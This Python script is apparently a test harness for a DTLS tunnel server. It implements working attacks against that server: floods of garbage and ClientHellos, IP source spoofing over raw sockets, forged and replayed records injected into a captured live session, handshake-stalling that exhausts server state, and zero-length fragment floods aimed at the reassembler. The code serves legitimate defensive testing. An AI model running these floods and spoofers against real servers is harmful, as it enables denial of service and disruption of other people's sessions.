#!/usr/bin/env python3
"""Hostile input for a dtun server, for tests/attack.rs. Run each mode inside a test's own
network namespace (root needed for raw and packet sockets); it never sends anywhere else than
--dst.

  attack.py catch-hello --port P --out FILE [--timeout 10]
      Listens on 127.0.0.1:P (UDP), takes the first datagram, checks that it is a DTLS
      ClientHello (handshake record, epoch 0, handshake type 1, lengths consistent), writes it
      as hex to FILE and exits 0; exits 1 on timeout or if it is no ClientHello.

  attack.py flood --dst IP --port P --garbage N [--hello FILE --hello-srcs IP,IP,...
                  --hellos M] [--rate R] [--seed S]
      Sends N garbage datagrams from a few source ports: random bytes, DTLS-shaped records
      with bad epochs, bad length fields and bad versions, datagrams of one record followed by
      a truncated one, and ClientHello-shaped handshake records with garbage bodies (these
      reach the server's DTLS crate). Interleaved with them, M copies of the captured
      ClientHello, each from a fresh socket (a new source port), round-robin over
      --hello-srcs. At most R datagrams a second. Prints one summary line and exits 0; the
      line also sorts the garbage the way the server's demultiplexer does (`demux_*=`, see
      demux_class), so a test can tell how much of it was bound to count as unknown_peer:
      the records, and `demux_other_unopened`, the `other` datagrams a socket sent before
      its first ClientHello-shaped one (no handshake can be open from its port yet).

  attack.py hello-flood --dst IP --port P --hello FILE --first-src IP --sources N
                        --rate R --seconds S
      Sends the captured ClientHello with raw IPv4 packets (IP_HDRINCL) from N spoofed
      source addresses, --first-src and the N - 1 after it, round-robin, for S seconds at R
      datagrams a second. Each datagram comes from a source address and port never used
      before, so each asks the server for a handshake of its own, which can never complete:
      the server's HelloVerifyRequest goes to an address where nothing listens. Prints
      "flooding" when it starts, one summary line at the end, and exits 0.

  attack.py spoof --iface IF --dport P --each N [--hello FILE --hellos M] [--rate R]
      Captures one application-data datagram leaving IF towards port P (a live session's
      traffic), then forges N records of each kind below from that datagram's own source
      address and port, with raw IP packets, and prints one line per kind; with --hello, also
      M copies of the captured ClientHello from that address and port (a handshake beside the
      live session, which the attacker cannot complete). Each record is built to be dropped
      for exactly one reason by the receiver's record layer:
        replay      the captured record verbatim
        bad_tag     application data, fresh sequence number, random ciphertext
        alert       an epoch-1 alert, fresh sequence number, random ciphertext (bad_tag too)
        bad_epoch   application data in epoch 0 or epoch + 1
        truncated   a length field that points past the datagram's end
        oversized   a body larger than TLS allows (sent as IP fragments)

  attack.py hello-storm --dst IP --port P --hello FILE --first-src IP --sources N
                        --rate R --seconds S
      Like hello-flood, but every packet is built before the first is sent (the checksums
      are patched per source address and port, not recomputed), so one Python process
      keeps up with thousands a second; packets go out in small bursts on a fixed schedule.
      Prints "flooding" when it starts sending and, at the end, one line with hellos=N,
      took_ms=T and rate=R (datagrams a second actually achieved); exits 0.

  attack.py stall --dst IP --port P --hello FILE --srcs IP,IP,... --ports-each K
                  [--hold S]
      Opens K UDP sockets on each of --srcs and drives a real handshake on each one as far as
      a peer can without the key: a ClientHello (a fresh random per socket, no cookie), then,
      on the server's HelloVerifyRequest, the same ClientHello again with the cookie inserted
      (message_seq 1, next record sequence number), and waits for the server's flight
      (ServerHello first). Then it stops answering: every socket holds a proven handshake
      that never finishes. A socket whose handshake the server refused asks again every
      second, for --prove-for seconds (20 by default). Prints "proven=N of M in T ms", then
      holds the sockets open (so the server's resends find a socket, not an ICMP error) for S
      seconds or until SIGTERM, and exits 0 (also when some were never proven: the line says
      how many were).

      With --churn C, instead of holding: every socket proves a new handshake (a new
      random) again and again for C seconds, a round every --round-every seconds at most
      (as fast as it goes by default), so none is ever older than one round; prints
      "churning" after the first round and "churned rounds=N handshakes=M slowest_ms=T".
      Sources may be IPv6 addresses.

  attack.py junk --dst IP --port P --hello FILE --src IP --count N --size B --rate R
                 [--zero-frags Z] [--zero-last M]
      One socket from --src proves its address as `stall` does (ClientHello, echoed cookie,
      the server's flight), then sends N datagrams of about B bytes at R a second. The last
      M (all by default) begin with epoch-0 handshake records holding Z zero-length handshake
      fragments (12-byte headers with length and fragment_length 0 and ever new message_seq
      and fragment_offset values: nothing to reassemble, everything to keep, and each new one
      makes a reassembler that sums what it keeps do more work); every datagram is filled up
      to B with epoch-1 handshake records of random bytes (a Finished before any
      ClientKeyExchange, which a server that queues next-epoch records keeps whole). Prints "proven" once the flight came,
      then "sent junk=N bytes=M in T ms" and exits 0.

Python standard library only; shares the capture and raw-packet helpers of inject.py.
"""

import argparse
import os
import random
import socket
import struct
import sys
import time

import inject

RECORD_HEADER_LEN = inject.RECORD_HEADER_LEN
CONTENT_CCS, CONTENT_ALERT, CONTENT_HANDSHAKE, CONTENT_APP = 20, 21, 22, 23
HANDSHAKE_CLIENT_HELLO = 1
DTLS12, DTLS10 = b"\xfe\xfd", b"\xfe\xff"
# Sequence numbers of forged records start this far above the captured one, so that the
# replay window never rejects them before their tag is checked.
SEQ_JUMP = 10_000_000


def record(ctype, version, epoch, seq, body, length=None):
    """One DTLS record; `length` overrides the length field (a lie about the body)."""
    if length is None:
        length = len(body)
    return (
        bytes([ctype])
        + version
        + struct.pack("!H", epoch & 0xFFFF)
        + (seq & inject.MAX_SEQ).to_bytes(6, "big")
        + struct.pack("!H", length & 0xFFFF)
        + body
    )


def load_hello(path):
    """The ClientHello in the hex dump at `path`, or None (said on stdout) if it holds none."""
    with open(path) as f:
        hello = bytes.fromhex(f.read().strip())
    if not is_client_hello(hello):
        print("the --hello file holds no ClientHello", flush=True)
        return None
    return hello


def is_client_hello(dg):
    if len(dg) < RECORD_HEADER_LEN + 12:
        return False
    length = struct.unpack("!H", dg[11:13])[0]
    hs_len = int.from_bytes(dg[14:17], "big")
    return (
        dg[0] == CONTENT_HANDSHAKE
        and dg[1] == 0xFE
        and dg[3:5] == b"\0\0"
        and dg[13] == HANDSHAKE_CLIENT_HELLO
        and RECORD_HEADER_LEN + length <= len(dg)
        and hs_len + 12 <= length + 12
    )


def demux_class(dg):
    """How the server's demultiplexer (src/server.rs `Demux::datagram`) takes a datagram from
    an address that has no session: `record` (application data, or an alert past epoch 0:
    always an unknown_peer drop), `hello` (ClientHello-shaped: starts a handshake, or feeds
    the one already open from that address), `other` (fed to an open handshake from that
    address, else an unknown_peer drop) or `empty` (ignored)."""
    if not dg:
        return "empty"
    epoch = struct.unpack("!H", dg[3:5])[0] if len(dg) >= 5 else 0
    if dg[0] == CONTENT_APP or (dg[0] == CONTENT_ALERT and epoch > 0):
        return "record"
    if len(dg) > 13 and dg[0] == CONTENT_HANDSHAKE and dg[3:5] == b"\0\0" and dg[13] == HANDSHAKE_CLIENT_HELLO:
        return "hello"
    return "other"


def catch_hello(args):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", args.port))
    sock.settimeout(args.timeout)
    print(f"listening on 127.0.0.1:{args.port}", flush=True)
    try:
        dg, addr = sock.recvfrom(65535)
    except socket.timeout:
        print("no datagram", flush=True)
        return 1
    if not is_client_hello(dg):
        print(f"not a ClientHello from {addr}: {dg[:32].hex()}", flush=True)
        return 1
    tmp = args.out + ".tmp"
    with open(tmp, "w") as f:
        f.write(dg.hex())
    os.rename(tmp, args.out)
    print(f"ClientHello of {len(dg)} bytes from {addr[0]}:{addr[1]}", flush=True)
    return 0


class Pacer:
    """Sleeps as needed to keep to `rate` datagrams a second, checked every 100 datagrams."""

    def __init__(self, rate):
        self.rate = rate
        self.start = time.monotonic()
        self.sent = 0

    def tick(self):
        self.sent += 1
        if self.rate and self.sent % 100 == 0:
            ahead = self.sent / self.rate - (time.monotonic() - self.start)
            if ahead > 0:
                time.sleep(ahead)


def garbage(rng, noise):
    """(kind, datagram) of one garbage datagram."""

    def rand_bytes(n):
        at = rng.randrange(0, len(noise) - n)
        return noise[at : at + n]

    roll = rng.random()
    if roll < 0.40:
        return "random", rand_bytes(rng.randint(1, 1400))
    if roll < 0.85:
        body = rand_bytes(rng.randint(0, 1200))
        ctype = rng.choice([CONTENT_APP, CONTENT_APP, CONTENT_ALERT, CONTENT_CCS, CONTENT_HANDSHAKE, rng.randrange(256)])
        version = rng.choice([DTLS12, DTLS12, DTLS10, rand_bytes(2)])
        # Epochs that are never right for a peer without a session, and rarely 0 for a
        # handshake record (those would be ClientHello-shaped, which the next kind covers).
        epoch = rng.choice([1, 2, 0xFFFF, rng.randrange(1, 0x10000)])
        length = rng.choice(
            [0, len(body) + rng.randint(1, 500), 0xFFFF, max(len(body) - 1, 0), (1 << 14) + 100, len(body)]
        )
        return "record", record(ctype, version, epoch, rng.randrange(1 << 48), body, length)
    if roll < 0.95:
        first = record(CONTENT_APP, DTLS12, 1, rng.randrange(1 << 48), rand_bytes(rng.randint(0, 200)))
        second = record(CONTENT_APP, DTLS12, 1, rng.randrange(1 << 48), rand_bytes(10), 500)
        return "multi", first + second
    # ClientHello-shaped: handshake header (type 1, then lengths, message_seq, fragment
    # offset and length) with lies in it, and a random body.
    body = rand_bytes(rng.randint(0, 300))
    hs_len = rng.choice([len(body), len(body) + 1, 0xFFFFFF, 0, rng.randrange(1 << 24)])
    frag_off = rng.choice([0, 0, rng.randrange(1 << 24)])
    frag_len = rng.choice([len(body), 0xFFFFFF, rng.randrange(1 << 24)])
    hs = (
        bytes([HANDSHAKE_CLIENT_HELLO])
        + hs_len.to_bytes(3, "big")
        + struct.pack("!H", rng.randrange(1 << 16))
        + frag_off.to_bytes(3, "big")
        + frag_len.to_bytes(3, "big")
        + body
    )
    length = rng.choice([len(hs), len(hs), len(hs) + 7, 12])
    return "hello_shaped", record(CONTENT_HANDSHAKE, DTLS12, 0, rng.randrange(1 << 48), hs, length)


def flood(args):
    rng = random.Random(args.seed)
    noise = os.urandom(1 << 20)
    dst = (args.dst, args.port)
    socks = []
    for _ in range(8):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
        socks.append(s)
    hello = load_hello(args.hello) if args.hellos else None
    if args.hellos and hello is None:
        return 1
    srcs = args.hello_srcs.split(",") if args.hellos else []
    every = args.garbage // args.hellos if args.hellos else 0
    kept = []
    kinds = {}
    classes = {c: 0 for c in ["record", "hello", "other", "empty", "other_unopened"]}
    opened = [False] * len(socks)
    hellos = 0
    ports = set()
    pacer = Pacer(args.rate)
    started = time.monotonic()
    for n in range(args.garbage):
        kind, dg = garbage(rng, noise)
        kinds[kind] = kinds.get(kind, 0) + 1
        cls = demux_class(dg)
        classes[cls] += 1
        if cls == "other" and not opened[n % len(socks)]:
            classes["other_unopened"] += 1
        opened[n % len(socks)] |= cls == "hello"
        sock = socks[n % len(socks)]
        while True:
            try:
                sock.sendto(dg, dst)
                break
            except BlockingIOError:
                time.sleep(0.001)
        pacer.tick()
        if hello is not None and hellos < args.hellos and n % every == every - 1:
            # A fresh socket, so a fresh source port; kept open so that the server's answer
            # finds a socket rather than making an ICMP error.
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.bind((srcs[hellos % len(srcs)], 0))
            s.sendto(hello, dst)
            ports.add(s.getsockname())
            kept.append(s)
            hellos += 1
            pacer.tick()
    took = time.monotonic() - started
    detail = " ".join(f"{k}={v}" for k, v in sorted(kinds.items()))
    demux = " ".join(f"demux_{k}={v}" for k, v in classes.items())
    print(
        f"sent garbage={args.garbage} ({detail}) ({demux}) hellos={hellos} from {len(ports)} "
        f"source addresses to {args.dst}:{args.port} in {took:.2f}s (took_ms={int(took * 1000)})",
        flush=True,
    )
    for s in socks + kept:
        s.close()
    return 0 if hellos == args.hellos else 1


def hello_flood(args):
    with open(args.hello) as f:
        hello = bytes.fromhex(f.read().strip())
    if not is_client_hello(hello):
        print("the --hello file holds no ClientHello", flush=True)
        return 1
    first = struct.unpack("!I", socket.inet_aton(args.first_src))[0]
    srcs = [socket.inet_ntoa(struct.pack("!I", first + i)) for i in range(args.sources)]
    total = int(args.rate * args.seconds)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    print(f"flooding {args.dst}:{args.port} from {srcs[0]} to {srcs[-1]}", flush=True)
    used = set()
    started = time.monotonic()
    for n in range(total):
        # Evenly spaced, not in bursts: the server sees a steady stream of newcomers.
        ahead = started + n / args.rate - time.monotonic()
        if ahead > 0:
            time.sleep(ahead)
        src = srcs[n % len(srcs)]
        # A new port on every round over the addresses: no (address, port) repeats.
        sport = 20000 + n // len(srcs)
        used.add(src)
        udp = inject.udp_datagram(src, args.dst, sport, args.port, hello)
        for packet in inject.ip_packets(src, args.dst, udp):
            raw.sendto(packet, (args.dst, 0))
    took = time.monotonic() - started
    raw.close()
    print(
        f"sent hellos={total} from {len(used)} source addresses to {args.dst}:{args.port} "
        f"in {took:.2f}s ({total / took:.0f}/s)",
        flush=True,
    )
    return 0


def spoof(args):
    got = inject.capture(args.iface, args.dport, 10.0)
    if got is None:
        print(f"no application-data datagram to port {args.dport} seen on {args.iface}", flush=True)
        return 1
    src, dst, sport, dport, datagram = got
    rec = inject.first_record(datagram)
    epoch = int.from_bytes(rec[3:5], "big")
    seq = inject.seq_of(rec)
    print(f"captured {len(rec)}-byte record {src}:{sport} -> {dst}:{dport} epoch={epoch} seq={seq}", flush=True)
    # The captured record's own body length keeps forged ones plausible (above nonce + tag).
    body_len = max(len(rec) - RECORD_HEADER_LEN, 64)
    fresh = iter(range(seq + SEQ_JUMP, seq + SEQ_JUMP + 10 * args.each))

    def forged(kind, i):
        if kind == "replay":
            return bytes(rec)
        if kind == "bad_tag":
            return record(CONTENT_APP, DTLS12, epoch, next(fresh), os.urandom(body_len))
        if kind == "alert":
            return record(CONTENT_ALERT, DTLS12, epoch, next(fresh), os.urandom(26))
        if kind == "bad_epoch":
            wrong = 0 if i % 2 else epoch + 1
            return record(CONTENT_APP, DTLS12, wrong, next(fresh), os.urandom(body_len))
        if kind == "truncated":
            body = os.urandom(body_len)
            return record(CONTENT_APP, DTLS12, epoch, next(fresh), body, len(body) + 1 + i)
        if kind == "oversized":
            return record(CONTENT_APP, DTLS12, epoch, next(fresh), os.urandom((1 << 14) + 8 + 16 + 1 + i))
        raise ValueError(kind)

    kinds = ["replay", "bad_tag", "alert", "bad_epoch", "truncated", "oversized"]
    sent = {k: 0 for k in kinds}
    hello = load_hello(args.hello) if args.hellos else None
    if args.hellos and hello is None:
        return 1
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    pacer = Pacer(args.rate)

    def send(payload):
        for packet in inject.ip_packets(src, dst, inject.udp_datagram(src, dst, sport, dport, payload)):
            raw.sendto(packet, (dst, 0))
        pacer.tick()

    for i in range(args.each):
        if hello is not None and i < args.hellos:
            send(hello)
        for kind in kinds:
            send(forged(kind, i))
            sent[kind] += 1
    raw.close()
    for kind in kinds:
        print(f"spoofed {kind}={sent[kind]} from {src}:{sport}", flush=True)
    if hello is not None:
        print(f"spoofed client_hello={min(args.hellos, args.each)} from {src}:{sport}", flush=True)
    return 0


# ---- hello-storm, stall, junk (tests/admission.rs) ----

HANDSHAKE_HELLO_VERIFY_REQUEST, HANDSHAKE_SERVER_HELLO = 3, 2
HS_HEADER = 12


def _csum_add(total, data):
    if len(data) % 2:
        data += b"\0"
    return total + sum(struct.unpack("!%dH" % (len(data) // 2), data))


def _csum_fold(total):
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def hello_storm(args):
    hello = load_hello(args.hello)
    if hello is None:
        return 1
    first = struct.unpack("!I", socket.inet_aton(args.first_src))[0]
    dst = socket.inet_aton(args.dst)
    total = int(args.rate * args.seconds)
    udp_len = 8 + len(hello)
    # Sums of the words that are the same in every packet: UDP (pseudo header without the
    # source, header without the source port, payload) and IP (header without source, id).
    udp_base = _csum_add(0, dst + struct.pack("!BBHHH", 0, 17, udp_len, args.port, udp_len) + hello)
    ip_base = _csum_add(0, struct.pack("!BBHHBB", 0x45, 0, 20 + udp_len, 0, 64, 17) + dst)
    packets = []
    for n in range(total):
        src_n = first + n % args.sources
        src = struct.pack("!I", src_n)
        sport = 20000 + n // args.sources
        ident = n & 0xFFFF
        src_sum = (src_n >> 16) + (src_n & 0xFFFF)
        ucsum = _csum_fold(udp_base + src_sum + sport) or 0xFFFF
        icsum = _csum_fold(ip_base + src_sum + ident)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, ident, 0, 64, 17, icsum, src, dst)
        packets.append(ip + struct.pack("!HHHH", sport, args.port, udp_len, ucsum) + hello)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    target = (args.dst, 0)
    last = socket.inet_ntoa(struct.pack("!I", first + min(total, args.sources) - 1))
    print(f"flooding {args.dst}:{args.port} from {args.first_src} to {last}", flush=True)
    started = time.monotonic()
    late = 0
    for n, packet in enumerate(packets):
        if n % 8 == 0:
            ahead = started + n / args.rate - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
            elif ahead < -0.05:
                late += 1
        while True:
            try:
                raw.sendto(packet, target)
                break
            except BlockingIOError:
                time.sleep(0.0005)
    took = time.monotonic() - started
    raw.close()
    print(
        f"sent hellos={total} from {min(total, args.sources)} source addresses to "
        f"{args.dst}:{args.port} in {took:.2f}s (took_ms={int(took * 1000)} rate={total / took:.0f} "
        f"late_bursts={late})",
        flush=True,
    )
    return 0


def hello_with(hello, random32, cookie, message_seq, record_seq):
    """The captured ClientHello with another random, `cookie` in place of its own, and the
    given message_seq and record sequence number (one record, one unfragmented message)."""
    rec_len = struct.unpack("!H", hello[11:13])[0]
    hs = hello[RECORD_HEADER_LEN : RECORD_HEADER_LEN + rec_len]
    body = hs[HS_HEADER : HS_HEADER + int.from_bytes(hs[1:4], "big")]
    at = 34 + 1 + body[34]  # version(2) random(32) session_id<0..32>
    new = body[:2] + random32 + body[34:at] + bytes([len(cookie)]) + cookie + body[at + 1 + body[at] :]
    n = len(new).to_bytes(3, "big")
    msg = bytes([HANDSHAKE_CLIENT_HELLO]) + n + struct.pack("!H", message_seq) + b"\0\0\0" + n + new
    return record(CONTENT_HANDSHAKE, hello[1:3], 0, record_seq, msg)


def hvr_cookie(dg):
    """The cookie of a HelloVerifyRequest datagram, or None."""
    if len(dg) < RECORD_HEADER_LEN + HS_HEADER + 3 or dg[0] != CONTENT_HANDSHAKE:
        return None
    if dg[RECORD_HEADER_LEN] != HANDSHAKE_HELLO_VERIFY_REQUEST:
        return None
    at = RECORD_HEADER_LEN + HS_HEADER + 2
    return dg[at + 1 : at + 1 + dg[at]]


def is_server_hello(dg):
    return len(dg) > RECORD_HEADER_LEN and dg[0] == CONTENT_HANDSHAKE and dg[RECORD_HEADER_LEN] == HANDSHAKE_SERVER_HELLO


def prove(socks, hello, dst, timeout):
    """Drives each socket's handshake to the server's flight (see `stall`); returns how many
    got there. Resends the current step every second, as a client would."""
    import selectors

    sel = selectors.DefaultSelector()
    state = {}
    for s in socks:
        s.setblocking(False)
        while True:  # what an earlier round left behind must not count for this one
            try:
                s.recv(65535)
            except OSError:
                break
        rnd = os.urandom(32)
        first = hello_with(hello, rnd, b"", 0, 0)
        state[s] = {"random": rnd, "next": first, "done": False}
        sel.register(s, selectors.EVENT_READ)
    deadline = time.monotonic() + timeout
    resend_at = 0.0
    proven = 0
    while proven < len(socks) and time.monotonic() < deadline:
        now = time.monotonic()
        if now >= resend_at:
            for s, st in state.items():
                if not st["done"]:
                    try:
                        s.sendto(st["next"], dst)
                    except OSError:
                        pass
            resend_at = now + 1.0
        for key, _ in sel.select(0.05):
            s, st = key.fileobj, state[key.fileobj]
            while True:
                try:
                    dg = s.recv(65535)
                except (BlockingIOError, InterruptedError):
                    break
                except OSError:
                    break
                if st["done"]:
                    continue
                cookie = hvr_cookie(dg)
                if cookie:
                    st["next"] = hello_with(hello, st["random"], cookie, 1, 1)
                    s.sendto(st["next"], dst)
                elif is_server_hello(dg):
                    st["done"] = True
                    proven += 1
    return proven


def stall(args):
    hello = load_hello(args.hello)
    if hello is None:
        return 1
    import resource
    import signal

    srcs = args.srcs.split(",")
    want = len(srcs) * args.ports_each + 64
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, want), max(hard, want)))
    dst = (args.dst, args.port)
    socks = []
    for src in srcs:
        family = socket.AF_INET6 if ":" in src else socket.AF_INET
        for _ in range(args.ports_each):
            s = socket.socket(family, socket.SOCK_DGRAM)
            s.bind((src, 0))
            socks.append(s)
    started = time.monotonic()
    proven = prove(socks, hello, dst, args.prove_for)
    took = time.monotonic() - started
    print(f"proven={proven} of {len(socks)} in {int(took * 1000)} ms", flush=True)
    stop = []
    signal.signal(signal.SIGTERM, lambda *_: stop.append(1))
    if args.churn:
        # Every socket starts over (a new random, so a new handshake) round after round: no
        # handshake of ours is ever older than a round.
        rounds, again, slowest = 0, 0, 0.0
        until = time.monotonic() + args.churn
        while not stop and time.monotonic() < until:
            t = time.monotonic()
            again += prove(socks, hello, dst, 5.0)
            rounds += 1
            slowest = max(slowest, time.monotonic() - t)
            pause = t + args.round_every - time.monotonic()
            if pause > 0 and not stop:
                time.sleep(pause)
            if rounds == 1:
                print(f"churning: round 1 took {int(slowest * 1000)} ms", flush=True)
        print(f"churned rounds={rounds} handshakes={again} slowest_ms={int(slowest * 1000)}", flush=True)
        for s in socks:
            s.close()
        return 0
    until = time.monotonic() + args.hold
    while not stop and time.monotonic() < until:
        time.sleep(0.1)
    for s in socks:
        s.close()
    return 0


def zero_fragments(first_seq, count, typ):
    """`count` handshake headers of zero length (length 0, fragment_length 0, no body), each
    with its own message_seq from `first_seq` on (3 and up: past the ClientHellos' and never
    the one a server waits for next) and its own nonzero fragment_offset. A reassembler that
    keeps every fragment it has not used keeps a header's worth of state for each of them,
    and its size limits, which count fragment bytes, count nothing."""
    out = bytearray()
    for j in range(count):
        seq = first_seq + j
        out += bytes([typ]) + b"\0\0\0" + struct.pack("!H", 3 + seq % 0xFFF0)
        out += (1 + (seq * 7) % 0xFFFF).to_bytes(3, "big") + b"\0\0\0"
    return bytes(out)


def junk(args):
    hello = load_hello(args.hello)
    if hello is None:
        return 1
    dst = (args.dst, args.port)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((args.src, 0))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    if prove([s], hello, dst, 10.0) != 1:
        print("no flight from the server: the handshake was not proven", flush=True)
        return 1
    s.setblocking(True)
    print(f"proven from {s.getsockname()[0]}:{s.getsockname()[1]}", flush=True)
    if args.zero_last is None:
        args.zero_last = args.count
    per_record = 116  # 1392 bytes of headers: a record fits one 1500-byte IP packet
    rseq, mseq, sent_bytes = 2, 0, 0
    started = time.monotonic()
    for i in range(args.count):
        if i % 8 == 0:
            ahead = started + i / args.rate - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
        dg = bytearray()
        left, r = (args.zero_frags if i >= args.count - args.zero_last else 0), 0
        while left > 0:
            n = min(left, per_record)
            typ = [20, 11, 15, 0][r % 4]
            dg += record(CONTENT_HANDSHAKE, DTLS12, 0, rseq, zero_fragments(mseq, n, typ))
            rseq, mseq, left, r = rseq + 1, mseq + n, left - n, r + 1
        # The rest: epoch-1 handshake records (a Finished before any key exchange), each of
        # at most 1400 bytes, at least one.
        eseq = i * 16
        while True:
            room = args.size - len(dg) - RECORD_HEADER_LEN
            dg += record(CONTENT_HANDSHAKE, DTLS12, 1, eseq, os.urandom(max(48, min(room, 1400))))
            eseq += 1
            if args.size - len(dg) <= RECORD_HEADER_LEN + 48:
                break
        try:
            s.sendto(dg, dst)
        except OSError:
            pass  # an ICMP error from an earlier send; go on
        sent_bytes += len(dg)
    took = time.monotonic() - started
    print(f"sent junk={args.count} bytes={sent_bytes} in {int(took * 1000)} ms", flush=True)
    s.close()
    return 0


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    sub = ap.add_subparsers(dest="mode", required=True)
    c = sub.add_parser("catch-hello")
    c.add_argument("--port", type=int, required=True)
    c.add_argument("--out", required=True)
    c.add_argument("--timeout", type=float, default=10.0)
    f = sub.add_parser("flood")
    f.add_argument("--dst", required=True)
    f.add_argument("--port", type=int, required=True)
    f.add_argument("--garbage", type=int, required=True)
    f.add_argument("--hello")
    f.add_argument("--hello-srcs", default="0.0.0.0")
    f.add_argument("--hellos", type=int, default=0)
    f.add_argument("--rate", type=float, default=0)
    f.add_argument("--seed", type=int, default=None)
    h = sub.add_parser("hello-flood")
    h.add_argument("--dst", required=True)
    h.add_argument("--port", type=int, required=True)
    h.add_argument("--hello", required=True)
    h.add_argument("--first-src", required=True)
    h.add_argument("--sources", type=int, required=True)
    h.add_argument("--rate", type=float, required=True)
    h.add_argument("--seconds", type=float, required=True)
    s = sub.add_parser("spoof")
    s.add_argument("--iface", required=True)
    s.add_argument("--dport", type=int, required=True)
    s.add_argument("--each", type=int, required=True)
    s.add_argument("--hello")
    s.add_argument("--hellos", type=int, default=0)
    s.add_argument("--rate", type=float, default=0)
    st = sub.add_parser("hello-storm")
    st.add_argument("--dst", required=True)
    st.add_argument("--port", type=int, required=True)
    st.add_argument("--hello", required=True)
    st.add_argument("--first-src", required=True)
    st.add_argument("--sources", type=int, required=True)
    st.add_argument("--rate", type=float, required=True)
    st.add_argument("--seconds", type=float, required=True)
    sl = sub.add_parser("stall")
    sl.add_argument("--dst", required=True)
    sl.add_argument("--port", type=int, required=True)
    sl.add_argument("--hello", required=True)
    sl.add_argument("--srcs", required=True)
    sl.add_argument("--ports-each", type=int, required=True)
    sl.add_argument("--hold", type=float, default=60.0)
    sl.add_argument("--churn", type=float, default=0.0)
    sl.add_argument("--prove-for", type=float, default=20.0)
    sl.add_argument("--round-every", type=float, default=0.0)
    j = sub.add_parser("junk")
    j.add_argument("--dst", required=True)
    j.add_argument("--port", type=int, required=True)
    j.add_argument("--hello", required=True)
    j.add_argument("--src", required=True)
    j.add_argument("--count", type=int, required=True)
    j.add_argument("--size", type=int, required=True)
    j.add_argument("--rate", type=float, required=True)
    j.add_argument("--zero-frags", type=int, default=580)
    j.add_argument("--zero-last", type=int, default=None)
    args = ap.parse_args()
    modes = {
        "catch-hello": catch_hello,
        "flood": flood,
        "hello-flood": hello_flood,
        "spoof": spoof,
        "hello-storm": hello_storm,
        "stall": stall,
        "junk": junk,
    }
    return modes[args.mode](args)


if __name__ == "__main__":
    sys.exit(main())
